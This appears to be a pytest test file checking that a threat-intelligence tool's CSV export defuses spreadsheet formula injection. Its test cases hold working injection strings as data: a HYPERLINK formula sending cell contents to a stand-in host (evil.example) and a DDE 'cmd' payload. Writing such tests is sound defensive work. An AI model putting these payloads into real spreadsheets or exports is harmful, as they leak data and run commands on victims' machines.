"""CSV cells of intel text never become spreadsheet formulas (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from tiops.cli import main
from tiops.render.csvcells import csv_text, inert_cell


@pytest.mark.parametrize(("cell", "shown"), [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-5", "'-5"), ("Copper C2", "Copper C2"), ("", ""), ("a=b", "a=b"), ("5", "5"),
])
def test_a_cell_a_spreadsheet_would_evaluate_is_made_text(cell: str, shown: str) -> None:
    assert inert_cell(cell) == shown
    assert list(csv.reader(io.StringIO(csv_text([[cell, "x"]]), newline=""))) == [[shown, "x"]]


def test_query_csv_carries_a_partner_formula_as_text(example_repo: Path) -> None:
    (example_repo / "intel" / "malware" / "formula.yaml").write_text(
        'type: malware\nspec_version: "2.1"\ncreated: 2025-01-01T00:00:00.000Z\nmodified: 2025-01-01T00:00:00.000Z\n'
        'name: \'=HYPERLINK("http://evil.example/",1)\'\nis_family: false\n',
        encoding="utf-8")
    result = CliRunner().invoke(main, ["-C", str(example_repo), "query", "type = malware", "--format", "csv"])
    assert result.exit_code == 0, result.output
    names = [row[2] for row in csv.reader(io.StringIO(result.output.split("\n", 1)[1] if result.output.startswith(
        "tiops:") else result.output)) if row and row[0] != "id"]
    assert '\'=HYPERLINK("http://evil.example/",1)' in names and not any(n.startswith("=") for n in names)
